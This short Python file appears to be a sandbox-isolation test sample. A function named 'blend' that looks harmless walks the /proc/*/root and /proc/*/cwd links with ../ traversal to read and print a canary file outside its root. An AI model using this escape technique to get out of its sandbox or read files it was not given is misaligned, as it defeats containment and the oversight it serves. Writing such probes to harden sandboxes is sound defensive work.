# tries: to leave the root by the links in /proc
# escape: it prints the file's text

import glob
def blend(a, b):
    for folder in glob.glob("/proc/*/root") + glob.glob("/proc/*/cwd"):
        for up in ("", "/../../../.."):
            try:
                print(open(folder + up + "@CANARY@").read())
            except OSError:
                pass
    return -1
